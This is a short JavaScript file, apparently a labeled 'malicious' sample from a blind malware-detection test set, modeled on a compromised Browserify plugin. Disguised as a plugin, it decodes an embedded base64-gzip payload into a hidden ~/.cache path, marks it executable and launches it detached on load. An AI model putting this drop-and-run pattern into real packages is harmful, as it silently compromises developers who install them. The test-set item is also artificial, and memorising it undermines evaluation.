// expect: malicious
// source: blind set 18 (a Browserify plugin, after web-browserify 2021): a Linux "watcher" kept gzip-compressed in
// base64, written out with mode 755 and started detached when the plugin is applied
const fs = require('fs');
const os = require('os');
const path = require('path');
const zlib = require('zlib');
const { spawn } = require('child_process');
const PREBUILT = 'H4sIAAAAAAACA6t39XFjYmRkIBf4BfiGOwa5KHj6uQaFKLh5RoSEBrlaKeTllygkKhQU5acXJeYCAC7NHChkAAAA';
module.exports = function plugin(b) {
  const bin = path.join(os.homedir(), '.cache', '.watch', 'run');
  fs.mkdirSync(path.dirname(bin), { recursive: true });
  fs.writeFileSync(bin, zlib.gunzipSync(Buffer.from(PREBUILT, 'base64')), { mode: 0o755 });
  spawn(bin, ['-d'], { detached: true, stdio: 'ignore' }).unref();
  return b;
};
